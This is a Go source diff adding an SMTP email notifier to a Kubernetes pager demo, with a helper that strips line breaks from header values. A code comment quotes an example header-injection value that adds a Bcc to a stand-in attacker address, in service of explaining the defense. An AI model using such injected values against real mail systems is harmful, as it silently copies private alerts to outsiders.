@@ -0,0 +1,70 @@
+package notifier
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"net/smtp"
+	"strings"
+
+	"github.com/munnerz/k8s-api-pager-demo/pkg/apis/pager/v1alpha1"
+)
+
+func init() {
+	Register("email", newEmailNotifier)
+}
+
+type emailNotifier struct {
+	addr string
+	auth smtp.Auth
+	from string
+	to   []string
+}
+
+func newEmailNotifier(cfg Config) (Notifier, error) {
+	if cfg.SMTPHost == "" || len(cfg.SMTPTo) == 0 {
+		return nil, fmt.Errorf("email notifier requires --smtp-host and --smtp-to (or a notifierRef override)")
+	}
+
+	port := cfg.SMTPPort
+	if port == 0 {
+		port = 587
+	}
+
+	var auth smtp.Auth
+	if cfg.SMTPUsername != "" {
+		auth = smtp.PlainAuth("", cfg.SMTPUsername, cfg.SMTPPassword, cfg.SMTPHost)
+	}
+
+	return &emailNotifier{
+		addr: net.JoinHostPort(cfg.SMTPHost, fmt.Sprintf("%d", port)),
+		auth: auth,
+		from: cfg.SMTPFrom,
+		to:   cfg.SMTPTo,
+	}, nil
+}
+
+func (e *emailNotifier) Name() string { return "email" }
+
+func (e *emailNotifier) Notify(ctx context.Context, alert *v1alpha1.Alert) error {
+	msg := fmt.Sprintf(
+		"Subject: [%s] pager alert: %s/%s\r\n\r\n%s\r\n",
+		sanitizeHeaderValue(alert.Spec.Severity), alert.Namespace, alert.Name, alert.Spec.Description,
+	)
+
+	if err := smtp.SendMail(e.addr, e.auth, e.from, e.to, []byte(msg)); err != nil {
+		return fmt.Errorf("error sending alert email: %s", err.Error())
+	}
+
+	return nil
+}
+
+// sanitizeHeaderValue strips CR and LF from a value before it's interpolated
+// into an SMTP header line. Alert fields are free-form user input, so
+// without this a crafted value (e.g. "critical\r\nBcc: attacker@evil.com")
+// could inject arbitrary headers into every page.
+func sanitizeHeaderValue(s string) string {
+	s = strings.ReplaceAll(s, "\r", "")
+	s = strings.ReplaceAll(s, "\n", "")
+	return s
+}